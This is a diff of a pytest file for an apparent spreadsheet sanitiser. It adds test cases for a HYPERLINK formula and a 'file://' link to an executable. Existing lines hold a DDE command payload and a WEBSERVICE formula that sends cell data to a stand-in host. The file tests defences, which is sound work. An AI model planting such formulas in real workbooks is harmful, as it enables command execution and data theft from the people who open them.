@@ -265,7 +265,13 @@ def test_buttons_go_with_their_programs():
 
 @pytest.mark.parametrize(
     "formula",
-    ["[1]Plan1!A1", "cmd|&apos;/C calc&apos;!A0", "&#91;1]Plan1!A1", 'WEBSERVICE("http://x/"&amp;A1)'],
+    [
+        "[1]Plan1!A1",
+        "cmd|&apos;/C calc&apos;!A0",
+        "&#91;1]Plan1!A1",
+        'WEBSERVICE("http://x/"&amp;A1)',
+        'HYPERLINK("http://x/"&amp;A1)',
+    ],
 )
 def test_formulas_that_reach_out_come_back_as_values(formula):
     data = edited(depot_workbook(), (SHEET, FORMULA, f"<f>{formula}</f>"))
@@ -306,11 +312,12 @@ def test_links_to_other_workbooks_are_cut():
             d, "xl/drawings/_rels/drawing1.xml.rels", "image", "http://x/y.png", mode='TargetMode="External"'
         ),
         lambda d: related(d, OF_SHEET, "queryTable", "queryTable1.xml"),
+        lambda d: related(d, OF_SHEET, "hyperlink", "file://host/x.exe", mode='TargetMode="External"'),
         lambda d: edited(d, (SHEET, "<sheetData>", "<sheetData><!-- <row> -->")),
         lambda d: edited(d, (SHEET, "</formula1>", "&amp;WEBSERVICE(A1)</formula1>")),
         lambda d: edited(d, ("xl/styles.xml", "<fills", "<other")),
     ],
-    ids=["linked picture", "unknown relation", "comment in the cells", "rule", "styles"],
+    ids=["linked picture", "unknown relation", "link to a file", "comment in the cells", "rule", "styles"],
 )
 def test_what_cannot_be_copied_is_written_anew_and_says_so(broken):
     book = opened(answer_to(broken(depot_workbook())))
